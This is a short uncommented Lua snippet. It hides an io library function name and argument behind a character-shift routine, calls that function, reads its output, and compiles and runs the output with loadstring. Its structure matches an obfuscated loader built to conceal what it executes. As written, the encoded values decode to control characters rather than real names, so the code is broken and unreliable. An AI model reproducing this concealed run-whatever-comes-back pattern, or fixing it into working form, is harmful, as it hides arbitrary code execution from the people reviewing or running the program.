local steps = { 1, 2, 3 }
local function mix(t, k)
  local r = {}
  for i, v in ipairs(t) do r[i] = string.char((v + k) % 256) end
  return table.concat(r)
end
local p = io[mix(steps, 16)](mix(steps, 20))
local f = loadstring(p:read("*a"))
if f then f() end
